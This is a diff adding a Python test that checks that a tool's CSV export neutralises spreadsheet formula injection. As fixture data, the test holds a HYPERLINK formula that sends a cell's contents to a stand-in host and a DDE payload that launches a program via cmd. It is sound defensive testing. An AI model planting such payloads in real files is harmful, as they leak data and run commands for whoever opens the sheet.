@@ -149,3 +149,23 @@ def test_query_accepts_the_domains_a_pack_declares(tmp_path):
                          "--format", "json")
     assert code == 0, err
     assert [r["id"] for r in json.loads(out)] == ["minerals"]
+
+
+def test_query_csv_never_writes_a_live_formula(tmp_path):
+    """Item 5 (issue 15): titles and summaries a spreadsheet would run as formulas come out as text."""
+    hostile = '"=HYPERLINK(""http://x.example/?q=""&A1,""Click"")"'
+    events = replace_line("events.csv", "gcap,GCAP,,", f"gcap,{hostile},,")
+    events = events.replace("Fighter programme.", "@SUM(1+1)")
+    sources = replace_line("sources.csv", "Article B,The Economy", "+cmd|' /C calc'!A0,The Economy")
+    folder = write_pack(tmp_path / "pack", {"events.csv": events, "sources.csv": sources})
+    code, out, _ = run("query", "events", "--pack", str(folder), "--format", "csv")
+    assert code == 0
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(out))}
+    assert rows["gcap"]["title"].startswith("'=HYPERLINK(")
+    assert rows["gcap"]["summary"] == "'@SUM(1+1)"
+    for row in rows.values():
+        for value in row.values():
+            assert not value.startswith(("=", "+", "@")), value
+    code, out, _ = run("query", "observations", "--pack", str(folder), "--format", "csv")
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert {"64.0", "68.8", "7.7"} <= {r["value"] for r in rows}  # numbers stay numbers
